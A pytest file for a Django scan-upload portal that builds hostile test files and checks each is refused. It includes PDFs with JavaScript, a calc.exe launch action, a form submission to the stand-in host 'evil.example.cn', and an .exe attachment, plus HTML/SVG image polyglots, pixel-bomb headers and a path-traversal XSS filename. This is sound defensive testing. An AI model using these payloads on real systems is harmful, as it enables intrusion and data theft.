"""A corpus of hostile and broken scans, each sent through the upload page the way a browser
sends it and through inspect_scan: PDFs cut short, PDFs that run JavaScript, launch programs or
carry attachments, images that are also web pages, images whose header claims billions of pixels.
Each is refused with its Chinese message on the page (status 400) and leaves nothing behind: no
SignedScan row, no file in the private storage, no timeline entry.

(Zero-byte files, encrypted PDFs, executables and plain HTML under a scan's name are in
test_uploads.py.)"""
import io
import zlib

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.urls import reverse
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.models import SignedScan, TimelineEntry
from applications.uploads import inspect_scan
from tests.conftest import jpeg_bytes, pdf_bytes, png_bytes, upload

pytestmark = pytest.mark.usefixtures("private_media")

ACTIVE_PDF = "PDF 文件含有脚本、附件或表单动作，请直接上传扫描仪生成的 PDF 或图片。"
TRUNCATED_PDF = "PDF 文件不完整（可能上传中断），请重新上传。"
BAD_PDF = "PDF 文件已损坏或无法打开，请重新扫描后上传。"
POLYGLOT = "图片中夹带了网页代码，请重新扫描或另存为 JPEG/PNG 后上传。"
TOO_MANY_PIXELS = "图片尺寸过大，请降低扫描分辨率（建议 200–300 dpi）后上传。"


# --- the corpus ----------------------------------------------------------------------------------


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def one_page_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()}})


def pdf_opening_with_javascript() -> bytes:
    # The document's open action runs a script as soon as a reader opens it.
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1)")
    return written(writer)


def pdf_with_document_level_javascript() -> bytes:
    # A script in the catalog's /Names /JavaScript tree, run on opening by Acrobat.
    writer = one_page_writer()
    script = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    tree = writer._add_object(DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])}))
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return written(writer)


def pdf_with_a_page_script() -> bytes:
    # An additional action of the page, run when the page is shown.
    writer = one_page_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(1)")})
    return written(writer)


def pdf_launching_a_program() -> bytes:
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/Launch", F="calc.exe")
    return written(writer)


def pdf_submitting_a_form() -> bytes:
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/SubmitForm", F="https://evil.example.cn/collect")
    return written(writer)


def pdf_with_an_attachment() -> bytes:
    writer = one_page_writer()
    writer.add_attachment("发票.exe", b"MZ\x90\x00 not a scan")
    return written(writer)


def pdf_cut_inside_its_eof_marker() -> bytes:
    # The transfer stopped in the last line: "%%EOF" arrived as "%".
    data = pdf_bytes()
    assert data.rstrip().endswith(b"%%EOF")
    return data.rstrip()[:-4]


def pdf_cut_before_its_eof_marker() -> bytes:
    data = pdf_bytes()
    return data[: data.rindex(b"%%EOF")]


def three_page_pdf_cut_at_nine_tenths() -> bytes:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    data = written(writer)
    return data[: len(data) * 9 // 10]


def jpeg_with_a_page_appended() -> bytes:
    # A valid JPEG followed by a web page: a browser sniffing the bytes could run it.
    return jpeg_bytes() + b"<html><script>alert(1)</script></html>"


def jpeg_with_script_in_its_comment() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="JPEG", comment=b"<html><script>alert(1)</script>")
    return buffer.getvalue()


def png_with_svg_in_a_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def png_with_script_in_an_international_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("Description", "说明<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def png_after_its_end_carrying_a_page() -> bytes:
    return png_bytes() + b"<body onload=alert(1)>"


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header (IHDR, with a correct checksum) claims width × height pixels."""
    buffer = io.BytesIO()
    Image.new("1", (16, 16)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    data[29:33] = (zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF).to_bytes(4, "big")
    return bytes(data)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A tiny JPEG whose frame header (SOF0) claims width × height pixels."""
    data = bytearray(jpeg_bytes((16, 16)))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


CORPUS = [
    pytest.param("scan.pdf", pdf_opening_with_javascript(), ACTIVE_PDF, id="pdf open action javascript"),
    pytest.param("scan.pdf", pdf_with_document_level_javascript(), ACTIVE_PDF, id="pdf names tree javascript"),
    pytest.param("scan.pdf", pdf_with_a_page_script(), ACTIVE_PDF, id="pdf page additional action"),
    pytest.param("scan.pdf", pdf_launching_a_program(), ACTIVE_PDF, id="pdf launch action"),
    pytest.param("scan.pdf", pdf_submitting_a_form(), ACTIVE_PDF, id="pdf submit form action"),
    pytest.param("scan.pdf", pdf_with_an_attachment(), ACTIVE_PDF, id="pdf embedded file"),
    pytest.param("scan.pdf", pdf_cut_inside_its_eof_marker(), TRUNCATED_PDF, id="pdf cut inside eof marker"),
    pytest.param("scan.pdf", pdf_cut_before_its_eof_marker(), BAD_PDF, id="pdf without eof marker"),
    pytest.param("scan.pdf", three_page_pdf_cut_at_nine_tenths(), BAD_PDF, id="pdf cut at nine tenths"),
    pytest.param("scan.jpg", jpeg_with_a_page_appended(), POLYGLOT, id="jpeg html polyglot"),
    pytest.param("scan.jpg", jpeg_with_script_in_its_comment(), POLYGLOT, id="jpeg script in comment segment"),
    pytest.param("scan.png", png_with_svg_in_a_text_chunk(), POLYGLOT, id="png svg in text chunk"),
    pytest.param("scan.png", png_with_script_in_an_international_text_chunk(), POLYGLOT, id="png script in itxt chunk"),
    pytest.param("scan.png", png_after_its_end_carrying_a_page(), POLYGLOT, id="png markup after iend"),
    # Over the portal's 80 million pixels, and far over Pillow's own limit (which Pillow enforces
    # itself, before the portal's check runs): both are "too large", never "damaged".
    pytest.param("scan.png", png_claiming(10_000, 10_000), TOO_MANY_PIXELS, id="png 100 million pixels"),
    pytest.param("scan.png", png_claiming(65_000, 65_000), TOO_MANY_PIXELS, id="png 4 billion pixels"),
    pytest.param("scan.jpg", jpeg_claiming(10_000, 10_000), TOO_MANY_PIXELS, id="jpeg 100 million pixels"),
    pytest.param("scan.jpg", jpeg_claiming(65_000, 65_000), TOO_MANY_PIXELS, id="jpeg 4 billion pixels"),
]


def stored_files(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()]


def upload_url(application):
    return reverse("applications:scan_upload", args=[application.pk])


# --- through the page ----------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("name", "data", "message"), CORPUS)
def test_the_upload_page_refuses_it_says_why_and_keeps_nothing(client, user_a, complete_application_a, private_media, name, data, message):
    client.force_login(user_a)

    response = client.post(upload_url(complete_application_a), {"scan": upload(name, data)})

    assert response.status_code == 400
    assert message in response.content.decode()
    assert SignedScan.objects.count() == 0
    assert stored_files(private_media) == []
    assert not TimelineEntry.objects.filter(action="upload_scan").exists()


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("name", "data", "message"), CORPUS)
def test_inspect_scan_refuses_it_with_the_same_message(name, data, message):
    with pytest.raises(ValidationError) as refused:
        inspect_scan(upload(name, data), max_bytes=settings.SCAN_MAX_BYTES)

    assert refused.value.messages == [message]


def test_the_corpus_is_made_of_otherwise_acceptable_files():
    # Each hostile file above is a clean scan plus one thing: the clean ones pass, so the refusals
    # come from that one thing.
    for clean in (pdf_bytes(), written(one_page_writer()), jpeg_bytes(), png_bytes(), png_claiming(2480, 3508), jpeg_claiming(2480, 3508)):
        kind, _digest = inspect_scan(upload("scan", clean), max_bytes=settings.SCAN_MAX_BYTES)
        assert kind in ("pdf", "jpeg", "png")


def test_a_hostile_file_name_is_neither_trusted_nor_echoed_as_markup(client, user_a, complete_application_a, private_media):
    # A good scan under a name with a path and markup: stored under a server-made name inside the
    # private storage; the name is kept (its last part only) and shown escaped.
    client.force_login(user_a)
    name = '../../../etc/<img src=x onerror=alert(1)>.png'

    response = client.post(upload_url(complete_application_a), {"scan": upload(name, png_bytes())}, follow=True)

    assert response.status_code == 200
    [path] = stored_files(private_media)
    assert path.parent == private_media / "scans" / str(complete_application_a.pk)
    scan = SignedScan.objects.get()
    assert "/" not in scan.original_name and ".." not in scan.original_name
    assert scan.original_name == "<img src=x onerror=alert(1)>.png"
    html = client.get(reverse("applications:edit", args=[complete_application_a.pk])).content.decode()
    assert "已上传：" in html and "&lt;img src=x onerror=alert(1)&gt;.png" in html
    assert "<img src=x onerror" not in html
